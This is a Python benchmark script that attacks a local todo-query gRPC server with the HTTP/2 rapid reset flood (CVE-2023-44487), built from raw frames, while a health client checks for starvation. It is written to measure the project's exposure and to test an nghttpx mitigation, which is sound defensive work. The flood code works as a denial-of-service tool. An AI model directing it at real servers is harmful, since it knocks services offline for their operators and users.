#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against todo-query: attackers open
streams and reset them at once, as fast as they can, on several
connections; meanwhile a well-behaved client (todoctl health) calls the
server every 100 ms. Every one of its calls must succeed, and the server
must be serving afterwards. The attack is written with raw HTTP/2 frames
(a hand-made HPACK block of literal fields), no library.

Not part of the test command: its outcome depends on how the machine's
cores are shared between the attackers, the server and the client, and on
libgrpc 1.51 it fails (docs/SECURITY.md, "What one client can take"): a
measurement of the exposure, run by hand:

  eval "$(scripts/stack.sh env test)"; ATTACKERS=4 bench/security/rapid_reset.py build/dev/src

PROXY=nghttpx puts Debian's nghttpx (package nghttp2-proxy; its libnghttp2
carries the CVE-2023-44487 fix, a stream reset rate limit) in front of
todo-query, as docs/SECURITY.md recommends, and attacks the proxy instead:

  PROXY=nghttpx ATTACKERS=4 bench/security/rapid_reset.py build/dev/src
"""
import os
import socket
import struct
import subprocess
import sys
import threading
import time

ATTACKERS = int(os.environ.get("ATTACKERS", "4"))
ATTACK_S = 8.0


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK literal header field without indexing, new name, no Huffman."""
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


HEADERS = (b"\x83"  # :method POST (static 3)
           + b"\x86"  # :scheme http (static 6)
           + literal(":path", "/grpc.health.v1.Health/Check")
           + literal(":authority", "127.0.0.1")
           + literal("content-type", "application/grpc")
           + literal("te", "trailers"))


class Attacker(threading.Thread):
    """Opens and resets streams until `until` (a time) or until it has sent
    `limit` of them; each time the server closes its connection it opens
    another (self.connections counts them)."""

    def __init__(self, port, until, limit=None):
        super().__init__(daemon=True)
        self.port, self.until, self.limit = port, until, limit
        self.streams, self.error, self.connections = 0, None, 0

    def going(self):
        return time.time() < self.until and (self.limit is None or self.streams < self.limit)

    def run(self):
        try:
            self.attack()
        except OSError as e:  # the server may close a connection: open another
            self.error = str(e)

    def attack(self):
        while self.going():
            s = socket.create_connection(("127.0.0.1", self.port))
            self.connections += 1
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            drain = threading.Thread(target=self.drain, args=(s,), daemon=True)
            drain.start()
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0))
            stream = 1
            try:
                while self.going() and stream < 2**31 - 200:
                    batch = bytearray()
                    for _ in range(100):  # HEADERS, then RST_STREAM(CANCEL) at once
                        batch += frame(1, 0x4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8))
                        stream += 2
                    s.sendall(batch)
                    self.streams += 100
            except OSError:
                pass
            s.close()

    @staticmethod
    def drain(s):
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass


def attack(bin_dir, attackers, proxy=False, seconds=ATTACK_S, streams_each=None):
    """Starts todo-query (behind nghttpx when proxy), attacks it with
    `attackers` connections for `seconds` (or until each has sent
    `streams_each` streams) while a client calls Health/Check in a loop
    (todoctl health, through the proxy too). Returns the numbers."""
    logs = os.path.join(bin_dir, "..", "tests", "logs")
    os.makedirs(logs, exist_ok=True)
    port = free_port()
    env = dict(os.environ, TODO_QUERY_ADDR="127.0.0.1:%d" % port, TODO_QUERY_METRICS_ADDR="")
    with open(os.path.join(logs, "rapid-reset-query.log"), "ab") as log:
        server = subprocess.Popen([os.path.join(bin_dir, "query", "todo-query")], env=env, stdout=log, stderr=log)
    nghttpx = None
    if proxy:
        backend, port = port, free_port()
        with open(os.path.join(logs, "rapid-reset-nghttpx.log"), "ab") as log:
            nghttpx = subprocess.Popen(["nghttpx", "--frontend=127.0.0.1,%d;no-tls" % port,
                                        "--backend=127.0.0.1,%d;;proto=h2" % backend, "--workers=1",
                                        "--accesslog-file=/dev/null", "--errorlog-file=/dev/stderr"],
                                       stdout=log, stderr=log)
        env = dict(env, TODO_QUERY_ADDR="127.0.0.1:%d" % port)  # the client goes through it too
    todoctl = [os.path.join(bin_dir, "cli", "todoctl"), "health", "query"]

    def healthy():
        return subprocess.run(todoctl, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode == 0

    try:
        for _ in range(100):
            if healthy():
                break
            time.sleep(0.1)
        else:
            raise RuntimeError("todo-query%s did not start" % (" behind nghttpx" if proxy else ""))
        until = time.time() + (seconds if streams_each is None else 600)
        team = [Attacker(port, until, streams_each) for _ in range(attackers)]
        for a in team:
            a.start()
        calls = failures = 0
        slowest = 0.0
        while calls == 0 or any(a.is_alive() for a in team):
            t0 = time.time()
            ok = healthy()
            slowest = max(slowest, time.time() - t0)
            calls += 1
            failures += 0 if ok else 1
            time.sleep(0.1)
        for a in team:
            a.join(10)
        return {"streams": sum(a.streams for a in team), "connections": [a.connections for a in team],
                "calls": calls, "failures": failures, "slowest": slowest,
                "alive": server.poll() is None and healthy()}
    finally:
        if nghttpx is not None:
            nghttpx.terminate()
            nghttpx.wait(10)
        server.terminate()
        try:
            server.wait(20)
        except subprocess.TimeoutExpired:
            server.kill()


def main():
    bin_dir = sys.argv[1]
    if not os.environ.get("TODO_STACK"):
        print("SKIP: no stack")
        return 0
    proxy = os.environ.get("PROXY") == "nghttpx"
    r = attack(bin_dir, ATTACKERS, proxy)
    print("attack%s: %d streams opened and reset by %d attackers on %d connections in %.0f s; "
          "client: %d calls, %d failed, slowest %.2f s; server alive: %s"
          % (" through nghttpx" if proxy else "", r["streams"], ATTACKERS, sum(r["connections"]), ATTACK_S,
             r["calls"], r["failures"], r["slowest"], r["alive"]))
    if r["streams"] < 10000:
        print("FAIL: the attack did not run (%d streams)" % r["streams"])
        return 1
    if r["failures"] or not r["alive"]:
        print("FAIL: the well-behaved client was starved or the server died")
        return 1
    print("ok")
    return 0


if __name__ == "__main__":
    sys.exit(main())
